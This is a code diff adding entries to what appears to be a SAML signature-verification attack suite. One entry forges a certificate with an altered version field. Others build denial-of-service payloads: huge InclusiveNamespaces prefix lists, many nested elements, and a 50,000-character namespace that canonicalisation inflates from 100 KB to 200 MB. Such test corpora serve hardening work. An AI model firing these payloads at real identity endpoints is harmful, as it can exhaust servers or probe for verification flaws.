@@ -911,6 +911,14 @@ def key_at_an_address(case: Case) -> bytes:
     return _write(response)
 
 
+@attack(9)
+def certificate_of_an_unknown_version(case: Case) -> bytes:
+    """A field that parsers of certificates answer with an exception of its own."""
+    der = case.idp.key.certificate.public_bytes(serialization.Encoding.DER)
+    other = der.replace(b"\xa0\x03\x02\x01\x02", b"\xa0\x03\x02\x01\x05", 1)
+    return _write(case.forged(key_info=base64.b64encode(other).decode()))
+
+
 # 10: signatures by methods that prove too little. The identity provider really signs these.
 
 
@@ -1191,6 +1199,51 @@ def many_references(case: Case) -> bytes:
             signed_info.append(copy.deepcopy(reference))
 
     return _write(case.signed_as_evil(edit_signed_info=repeat))
+
+
+def _with_prefixes(case: Case, *prefix_lists: str, children: int = 0) -> bytes:
+    """InclusiveNamespaces in SignedInfo, which a verifier canonicalises before it tries a key."""
+    response = case.forged()
+    method = _only(response.find(f".//{ds('CanonicalizationMethod')}"))
+    for each in prefix_lists:
+        inclusive = etree.SubElement(
+            method, f"{{{provider.EXCLUSIVE}}}InclusiveNamespaces", nsmap={"e": provider.EXCLUSIVE}
+        )
+        inclusive.set("PrefixList", each)
+        for _ in range(children):
+            etree.SubElement(inclusive, ds("x"))
+    etree.cleanup_namespaces(response, top_nsmap={"e": provider.EXCLUSIVE, "ds": provider.DS})
+    return _write(response)
+
+
+@attack(29)
+def many_prefixes(case: Case) -> bytes:
+    """Each is looked up at each element."""
+    return _with_prefixes(case, "saml " * 30_000)
+
+
+@attack(29)
+def many_inclusive_namespaces(case: Case) -> bytes:
+    """The elements at which prefixes are looked up: with the above, minutes in 256 KB."""
+    return _with_prefixes(case, "saml " * 50, *[""] * 1_000)
+
+
+@attack(29)
+def elements_in_inclusive_namespaces(case: Case) -> bytes:
+    return _with_prefixes(case, "saml " * 50, children=1_000)
+
+
+@attack(29)
+def long_namespace(case: Case) -> bytes:
+    """Canonical form repeats it at each element: 100 KB become 200 MB. Truly signed."""
+
+    def add(response: etree._Element) -> None:
+        name = f"urn:{'x' * 50_000}"
+        advice = etree.SubElement(_assertion(response), saml("Advice"), nsmap={"x": name})
+        for _ in range(20):
+            etree.SubElement(advice, f"{{{name}}}x")
+
+    return _write(case.signed_as_evil(edit_before_signing=add))
 
 
 @attack(29)
